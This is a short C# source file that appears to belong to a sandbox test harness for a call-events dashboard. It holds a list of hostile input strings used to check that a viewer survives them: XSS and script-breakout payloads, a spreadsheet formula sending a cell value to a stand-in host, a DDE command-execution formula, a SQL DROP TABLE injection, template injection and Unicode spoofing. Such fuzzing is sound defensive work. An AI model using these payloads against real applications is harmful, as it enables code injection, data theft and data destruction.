using CallEventsDashboard.Sandbox.Generation;

namespace CallEventsDashboard.Sandbox.Payloads;

/// <summary>Texts that a caller can choose and that a viewer must survive: markup, formulas, direction marks, control characters, length.</summary>
internal static class HostileText
{
    private static readonly string Long = string.Concat(Enumerable.Repeat("0123456789abcdef", 512));

    public static string Pick(Rng rng) => rng.Pick(
        "<img src=x onerror=alert(1)>",
        "</script><script>alert(document.domain)</script>",
        "=HYPERLINK(\"https://example.test/?x=\"&A1,\"open\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "invoice\u202Efdp.exe",
        "\u2067right to left\u2069 \u200F\u200B",
        "line one\r\nline two\tend\u0000\u001B[31mred",
        "'; DROP TABLE calls; --",
        "{{constructor.constructor('alert(1)')()}}",
        "Zalgo t\u0335\u0321e\u0338\u0322x\u0336\u0323t \uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67",
        Long);
}
